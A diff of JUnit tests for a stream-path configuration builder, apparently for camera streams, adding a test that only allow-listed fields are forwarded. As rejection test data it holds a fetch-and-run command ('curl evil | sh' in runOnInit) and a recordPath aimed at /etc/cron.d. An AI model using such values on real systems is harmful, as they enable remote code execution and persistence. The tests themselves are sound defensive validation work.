@@ -2,6 +2,7 @@ package io.joystick.switcher.stream.service;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import org.junit.jupiter.api.Test;
 
@@ -30,9 +31,9 @@ class StreamPathsTest {
     @Test
     void hostIsTheChosenSlotsHostEverywhereInTheConfiguration() throws Exception {
         Device device = device("{\"path\":\"roof\",\"source\":\"rtsp://$host:8554/cam\",\"rtspTransport\":\"tcp\","
-                + "\"sourceOnDemand\":false,\"extra\":{\"list\":[\"$host\"]}}");
+                + "\"sourceOnDemand\":false,\"sourceFingerprint\":\"$host\"}");
         assertEquals(JSON.readTree("{\"source\":\"rtsp://10.0.0.2:8554/cam\",\"rtspTransport\":\"tcp\","
-                + "\"sourceOnDemand\":false,\"extra\":{\"list\":[\"10.0.0.2\"]}}"),
+                + "\"sourceOnDemand\":false,\"sourceFingerprint\":\"10.0.0.2\"}"),
                 StreamPaths.config(device, "secondary", true));
         assertEquals("rtsp://10.0.0.1:8554/cam", StreamPaths.config(device, "primary", false).get("source").asText());
     }
@@ -49,5 +50,21 @@ class StreamPathsTest {
                 () -> StreamPaths.config(device("{\"runOnInit\":\"curl evil | sh\"}"), "primary", false));
         assertEquals(400, refused.status());
         assertThrows(ApiException.class, () -> StreamPaths.config(device("{\"RUNONREADY\":\"x\"}"), "primary", false));
+    }
+
+    @Test
+    void forwardsOnlyAllowListedPathFieldsAndSaysWhichAreAllowed() throws Exception {
+        ApiException refused = assertThrows(ApiException.class, () -> StreamPaths.config(
+                device("{\"source\":\"rtsp://$host/cam\",\"record\":true,\"recordPath\":\"/etc/cron.d/%path\"}"),
+                "primary", false));
+        assertEquals(400, refused.status());
+        assertTrue(refused.getMessage().contains("record, recordPath not allowed"), refused.getMessage());
+        assertTrue(refused.getMessage().contains("sourceOnDemandCloseAfter"), refused.getMessage());
+        assertThrows(ApiException.class, () -> StreamPaths.config(device("{\"whatever\":1}"), "primary", false));
+        assertThrows(ApiException.class, () -> StreamPaths.config(device("{\"source\":{\"nested\":true}}"), "primary", false));
+        assertEquals(JSON.readTree("{\"sourceOnDemand\":true,\"sourceOnDemandStartTimeout\":\"10s\","
+                + "\"sourceOnDemandCloseAfter\":\"10s\",\"rtspTransport\":\"tcp\"}"),
+                StreamPaths.config(device("{\"path\":\"p\",\"sourceOnDemand\":true,\"sourceOnDemandStartTimeout\":\"10s\","
+                        + "\"sourceOnDemandCloseAfter\":\"10s\",\"rtspTransport\":\"tcp\"}"), "primary", false));
     }
 }
